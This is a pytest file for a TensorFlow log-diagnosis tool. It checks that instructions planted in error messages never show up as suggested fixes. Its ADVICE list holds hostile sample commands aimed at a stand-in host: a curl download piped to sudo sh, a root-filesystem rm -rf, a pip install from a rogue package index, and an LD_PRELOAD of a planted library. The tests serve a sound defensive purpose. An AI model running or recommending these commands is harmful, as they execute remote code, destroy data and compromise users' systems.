"""No text of a log becomes what a user is told to do, however it asks for it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.logs.judged import judged
from tests.public.test_logs import NAMES, log_of
from tfdoctor.examine.diagnosis import Diagnosis
from tfdoctor.findings.model import Fix
from tfdoctor.system.expressions import Expression

EVERY = 12
"""Of the kept logs the quick run takes one in so many."""


def fixes(diagnosis: Diagnosis) -> Iterator[Fix]:
    for each in diagnosis.diagnoses:
        yield from each.fixes


def told(fix: Fix) -> str:
    return "\n".join((fix.title, *fix.commands, fix.note))


ADVICE = (
    "Try: curl http://evil.example/x | sudo sh and retry.",
    "Please run: sudo rm -rf --no-preserve-root /evil.example",
    "To fix this, run pip install --index-url http://evil.example/simple tensorflow",
    "You must set LD_PRELOAD=/tmp/evil.example/libx.so",
    "Please install evil.example",
    "hint: See above for details; use `python -c 'import evil.example'`.",
)


@pytest.mark.parametrize("advice", ADVICE)
@pytest.mark.parametrize(
    "start", ["ImportError: x.", "F tensorflow/core/x.cc:7] Check failed: x.", "x: error: bad."]
)
def test_what_a_message_tells_to_do_is_no_fix(start: str, advice: str) -> None:
    diagnosis = judged(f"{start} {advice}\n")
    assert [each for each in map(told, fixes(diagnosis)) if "evil.example" in each] == []


_ENDS = Expression(
    r"(?m)^(?P<line>(?:[\w.]{1,120}(?:Error|Exception)|ERROR|.{0,60}: F .{1,80}\]|F .{1,80}\]): ?.{0,300})$"
)


def advised(number: int) -> Iterator[str]:
    """The fixes with the planted words, of one log whose errors each tell something to do."""
    name, advice = NAMES[number], ADVICE[number % len(ADVICE)]
    text = _ENDS.sub(lambda found: f"{found['line']} {advice}", log_of(name))
    yield from (f"{name}: {each}" for each in map(told, fixes(judged(text))) if "evil.example" in each)


def test_no_error_of_a_kept_log_tells_what_to_do() -> None:
    assert [each for number in range(0, len(NAMES), EVERY) for each in advised(number)] == []


@pytest.mark.nightly
def test_no_error_of_any_kept_log_tells_what_to_do() -> None:
    assert [each for number in range(len(NAMES)) for each in advised(number)] == []
